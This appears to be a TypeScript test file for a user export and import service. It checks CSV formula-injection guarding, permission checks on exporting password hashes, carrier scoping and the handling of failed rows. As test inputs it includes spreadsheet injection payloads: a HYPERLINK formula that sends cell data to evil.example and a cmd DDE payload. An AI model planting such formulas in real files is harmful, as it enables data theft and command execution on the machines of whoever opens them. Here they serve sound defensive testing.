import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { unguarded } from '../../../src/users-transfer/csv-formula';
import { errorsIn } from '../../support/imports';
import { type TestLogin, TestService } from '../../support/service';

describe('users in files', () => {
  let service: TestService;
  beforeAll(async () => {
    service = await TestService.start();
    await service.rows(`insert into roles (name, user_types, permissions) values
      ('exporter', '{system,carrier}', '{user:export}'), ('purger', '{system}', '{user:export,user:purge}'),
      ('importer', '{system,carrier}', '{user:import}')`);
  });
  afterAll(() => service.close());

  const rowsOf = (text: string) => parse(text, { columns: true }) as unknown as Record<string, string>[];

  it.each(['=HYPERLINK("http://evil.example/?"&A1)', '+1+1', '-1', '@SUM(A1)', "'=1", "''+1", '＝1+1', '=1,"2"'])(
    'writes %s as text for a spreadsheet, and imports it unchanged (O10)',
    async (first_name) => {
      const { user_id } = await service.createUser({ first_name, last_name: "O'Neill" });
      const { text } = await service.get(`/user/export?user_id=${user_id}`, service.admin);
      const [row] = rowsOf(text);
      expect(row).toMatchObject({ first_name: `'${first_name}`, last_name: "O'Neill" });
      expect(unguarded(row?.['first_name'] ?? '')).toBe(first_name);
    },
  );

  it('writes any text as one cell that is no formula, and imports it unchanged (O10)', async () => {
    const nasty = fc.string({ unit: fc.constantFrom(...`'"=+-@\t\r\n,; a＝＋－＠é😀`), maxLength: 8 });
    const texts = fc.sample(
      fc.oneof(
        nasty,
        fc.string({ unit: 'binary', maxLength: 20 }).filter((text) => !text.includes('\0')),
      ),
      3_000,
    );
    const cells = await service.rows<{ cell: string }>('select csv_cell(value) as cell from unnest($1::text[]) value', [
      texts,
    ]);
    cells.forEach(({ cell }, index) => {
      const [row] = cell === '' ? [['']] : parse(`${cell},end\r\n`);
      const shown = row?.[0] ?? '';
      expect(shown).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
      expect([cell, unguarded(shown)]).toEqual([cell, texts[index]]);
      // A spreadsheet with another list separator splits the line elsewhere.
      expect([cell, formulasIn(`x,${cell},end`)]).toEqual([cell, []]);
    });
  });

  /** Returns the parts of a file that another list separator or a broken quote makes formulas. */
  const formulasIn = (text: string) => text.split(/[;\t\r\n]/).filter((part) => /^["]*[=+\-@＝＋－＠]/.test(part));

  it.each(["a;=cmd|' /C calc'!A0;b", 'a\t=1+1\tb', 'a;"=1+1";b', "a;'=1;b"])(
    'guards %j within a cell of an export and of failed rows, and imports it unchanged (O10)',
    async (text) => {
      const attributes = { note: text };
      const { user_id, name } = await service.createUser({ attributes });
      const file = (await service.get(`/user/export?user_id=${user_id}`, service.admin)).text;
      const [exported] = rowsOf(file);
      expect([exported?.['name'], formulasIn(file.slice(file.indexOf('\n') + 1))]).toEqual([name, []]);
      expect(JSON.parse(exported?.['attributes'] ?? '')).toEqual(attributes);
      const again = rowsOf(file).map((one) => ({ ...one, attributes: JSON.parse(one['attributes'] ?? '') as object }));
      expect(again[0]?.attributes).toEqual(attributes);

      const { body } = await importRows(
        [{ user_type: 'carrier', name: text, last_name: text, attributes }],
        service.admin,
      );
      const kept = (await skipped(body.operation_id, service.admin)).text;
      expect(formulasIn(kept.slice(kept.indexOf('\n') + 1))).toEqual([]);
      const { body: page } = await service.post('/user/import', {
        token: service.admin.token,
        body: kept,
        headers: { 'content-type': 'text/csv' },
      });
      const items = await Promise.all(
        [body, page].map(
          async ({ operation_id }) => (await skipped(operation_id, service.admin, 'application/json')).body.items,
        ),
      );
      expect(items[0][0].cells).toMatchObject({ name: text, last_name: text, attributes: JSON.stringify(attributes) });
      expect(items[1][0].cells).toEqual(items[0][0].cells);
    },
  );

  it('exports no hash by default, even with user:purge (P10)', async () => {
    for (const format of ['csv', 'ndjson']) {
      const { text } = await service.get(`/user/export?format=${format}`, service.admin);
      expect(text).not.toMatch(/argon2|password_hash/);
    }
  });

  it('requires user:purge for hashes, regardless of other parameters (P10)', async () => {
    const { token } = await service.loginAs({ user_type: 'system', roles: ['exporter'] });
    for (const query of ['format=ndjson&hashes=true', 'hashes=true&nmae=1', 'format=csv&hashes=true']) {
      const { status, body } = await service.get(`/user/export?${query}`, { token });
      expect([query, status, body.code]).toEqual([query, 403, 'access.denied']);
    }
    expect((await service.get('/user/export?format=ndjson', { token })).status).toBe(200);
  });

  it('exports no hash of a user that the caller may not change, and records the export (P10)', async () => {
    const { token, user_id } = await service.loginAs({ user_type: 'system', roles: ['purger'] });
    const other = await service.createUser({ roles: ['carrier_user'] });
    const protectedOne = await service.createUser({ roles: ['carrier_administrator', 'carrier_user'] });
    const { text } = await service.get('/user/export?format=ndjson&hashes=true', { token });
    const hashes = new Map(
      text
        .split('\n')
        .slice(0, -1)
        .map((line) => JSON.parse(line) as { user_id: string; password_hash: string | null })
        .map((user) => [user.user_id, user.password_hash]),
    );
    expect(hashes.get(other.user_id)).toMatch(/^\$argon2id\$/);
    expect(hashes.get(protectedOne.user_id)).toBeNull();
    expect(hashes.get(user_id)).toMatch(/^\$argon2id\$/);
    expect(hashes.get(service.admin.user_id)).toBeNull();
    const { body } = await service.get('/audit/list?event_type=user.exported&per_page=1', service.admin);
    expect(body.items[0]).toMatchObject({
      actor_id: user_id,
      changes: { hashes: { after: true }, count: { after: hashes.size } },
    });
  });

  it('exports only users in scope, and records the event for the carrier of the caller (Z4)', async () => {
    const mine = await service.createUser({ carrier_id: 'c1' });
    await service.createUser({ carrier_id: 'c2' });
    await service.createUser({ user_type: 'system' });
    const callers = [
      await service.loginAs({ carrier_id: 'c1', roles: ['exporter'] }),
      await service.loginAs({ user_type: 'system', roles: ['exporter'], carrier_scope: ['c1'] }),
    ];
    for (const { token, user_id } of callers) {
      const rows = rowsOf((await service.get('/user/export', { token })).text);
      expect(rows.map((row) => row['user_id'])).toContain(mine.user_id);
      const outside = rows.filter((row) => row['carrier_id'] !== 'c1' && row['user_id'] !== user_id);
      expect(outside).toEqual([]);
    }
    const events = await service.rows<{ carrier_id: string | null }>(
      `
        select carrier_id
        from events
        where event_type = 'user.exported' and actor_id = any($1::uuid[])
        order by event_id`,
      [callers.map(({ user_id }) => user_id)],
    );
    expect(events.map(({ carrier_id }) => carrier_id)).toEqual(['c1', null]);
  });

  const importRows = (rows: object[], { token }: { token: string }) =>
    service.post('/user/import', {
      token,
      body: rows.map((one) => JSON.stringify(one)).join('\n'),
      headers: { 'content-type': 'application/x-ndjson' },
    });
  const row = (name: string, more: object) => ({
    user_type: 'carrier',
    name,
    email: `${name}@example.com`,
    carrier_id: 'c1',
    ...more,
  });

  /** Imports one user, and rows that fail with hashes and a password. */
  const failing = async (login: { token: string }, name: string) => {
    const md5 = createHash('md5').update('canary').digest('hex');
    const { body } = await importRows(
      [
        row(name, { last_name: '=HYPERLINK("http://evil.example")', password_hash: md5 }),
        row(name, { last_name: '=HYPERLINK("http://evil.example")', password_hash: md5 }),
        row(`${name}-2`, { last_name: '@SUM(A1)', password_hash: `${md5}!` }),
        row(`${name}-3`, { first_name: '-1', password: 'canary-password' }),
        row(`${name} 4`, { phone: '+4312345678' }),
      ],
      login,
    );
    expect(body).toMatchObject({ changed: 1, skipped_count: 4 });
    return body.operation_id as string;
  };
  const skipped = (operation_id: string, { token }: { token: string }, accept = 'text/csv') =>
    service.get(`/user/operation/${operation_id}/skipped`, { token, headers: { accept } });

  it('keeps no hash and no password of failed rows for correction, and says what was removed (P10)', async () => {
    const operation_id = await failing(service.admin, 'canaries');
    const file = await skipped(operation_id, service.admin);
    const page = await skipped(operation_id, service.admin, 'application/json');
    const kept = (await service.rows('select s::text as text from operation_skipped s'))
      .map((row) => row['text'])
      .join();
    const md5 = createHash('md5').update('canary').digest('hex');
    for (const text of [file.text, page.text, kept])
      expect(text).not.toMatch(new RegExp(`${md5}|canary-password|argon2`));
    const cells = (page.body.items as { cells: Record<string, string> }[]).map((item) => item.cells['password_hash']);
    expect(cells).toEqual(['(removed)', '(removed)', undefined, undefined]);
    // The hash was lost on the way, so the row must not become a user without a password.
    const again = await service.post('/user/import', {
      token: service.admin.token,
      body: file.text.replace(',canaries,', ',canaries-5,').replace(',canaries@', ',canaries-5@'),
      headers: { 'content-type': 'text/csv' },
    });
    expect(errorsIn(again.body).filter(({ line }) => line === 2)).toMatchObject([{ pointer: '/password_hash' }]);
  });

  it('writes the cells of failed rows as text for a spreadsheet, and imports them unchanged (O10)', async () => {
    const operation_id = await failing(service.admin, 'formulas');
    const { text } = await skipped(operation_id, service.admin);
    const rows = rowsOf(text);
    for (const cell of rows.flatMap((row) => Object.values(row))) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    const { body } = await skipped(operation_id, service.admin, 'application/json');
    const kept = (body.items as { cells: Record<string, string> }[]).map(({ cells }) => cells);
    expect(rows.map((row) => unguarded(row['last_name'] ?? ''))).toEqual(kept.map((cells) => cells['last_name'] ?? ''));
    expect(rows.at(-1)?.['phone']).toBe("'+4312345678");
  });

  it('shows failed rows only to callers who may see the import (Z25)', async () => {
    await service.rows(`insert into roles (name, user_types, permissions, may_grant) values
      ('bystander', '{system}', '{user:read,user:update,user:export}', '{}')`);
    const importer = await service.loginAs({ carrier_id: 'c1', roles: ['importer'] });
    const operation_id = await failing(importer, 'mine');
    const others: [string, TestLogin][] = [
      ['same carrier', await service.loginAs({ carrier_id: 'c1', roles: ['importer'] })],
      ['other carrier', await service.loginAs({ carrier_id: 'c2', roles: ['importer'] })],
      ['limited', await service.loginAs({ user_type: 'system', roles: ['importer'], carrier_scope: ['c1'] })],
      ['other permissions', await service.loginAs({ user_type: 'system', roles: ['bystander'] })],
      ['no permission', await service.loginAs({ carrier_id: 'c1', roles: ['carrier_user'] })],
    ];
    for (const [title, login] of others)
      for (const accept of ['text/csv', 'application/json']) {
        const { status, text } = await skipped(operation_id, login, accept);
        expect([title, accept, status]).toEqual([title, accept, title === 'no permission' ? 403 : 404]);
        expect(text).not.toContain('mine');
      }
    expect((await service.get(`/user/operation/${operation_id}/skipped`)).status).toBe(401);
    for (const login of [importer, service.admin])
      expect((await skipped(operation_id, login)).text).toContain('mine-2');
    const cursor = (await service.get(`/user/operation/${operation_id}/skipped?per_page=1`, importer)).body.next_cursor;
    const foreign = `/user/operation/${await failing(importer, 'more')}/skipped?cursor=${cursor}`;
    expect((await service.get(foreign, importer)).body.code).toBe('page.cursor_invalid');
    const page = await service.get(`/user/operation/${operation_id}/skipped?per_page=1`, {
      token: importer.token,
      headers: { accept: 'text/csv' },
    });
    expect([page.status, page.body.errors]).toMatchObject([
      400,
      [{ parameter: 'per_page', code: 'parameter.conflict' }],
    ]);
  });

  it('shows failed rows of other callers only with user:read, and the file only with user:export (Z25)', async () => {
    await service.rows(`insert into roles (name, user_types, permissions) values
      ('import_reader', '{system}', '{user:import,user:read}'),
      ('import_exporter', '{system}', '{user:import,user:export}')`);
    const operation_id = await failing(service.admin, 'others');
    for (const [role, page, file] of [
      ['importer', 404, 404],
      ['import_reader', 200, 404],
      ['import_exporter', 404, 200],
    ] as const) {
      const login = await service.loginAs({ user_type: 'system', roles: [role] });
      expect((await service.get(`/user/operation/${operation_id}`, login)).status).toBe(200);
      for (const [accept, status] of [
        ['application/json', page],
        ['text/csv', file],
      ] as const) {
        const answer = await skipped(operation_id, login, accept);
        expect([role, accept, answer.status]).toEqual([role, accept, status]);
        expect(answer.text.includes('others-2')).toBe(status === 200);
        if (status === 404) expect(answer.body.code).toBe('operation.not_found');
        const own = await failing(login, `own-${role.replace('_', '-')}-${accept.length}`);
        expect((await skipped(own, login, accept)).status).toBe(200);
      }
    }
  });

  it('shortens long cells in a page of failed rows, and keeps them whole in the file', async () => {
    const last_name = 'é'.repeat(100_000);
    const { body } = await importRows(
      [row('long 1', { last_name }), row('long 2', { last_name: 'short' })],
      service.admin,
    );
    const page = await skipped(body.operation_id, service.admin, 'application/json');
    const cells = (page.body.items as { cells: Record<string, string> }[]).map((item) => item.cells['last_name']);
    expect(cells).toEqual([`${'é'.repeat(1_000)}…`, 'short']);
    expect(page.text.length).toBeLessThan(10_000);
    expect(rowsOf((await skipped(body.operation_id, service.admin)).text)[0]?.['last_name']).toBe(last_name);
  });

  it('shows no skipped rows of other operations, which keep none', async () => {
    const { body } = await service.patch('/user/all?carrier_id=nowhere', { ...service.admin, body: { locale: 'de' } });
    const { status, body: problem } = await skipped(body.operation_id, service.admin);
    expect([status, problem.code]).toEqual([404, 'operation.not_found']);
  });
});
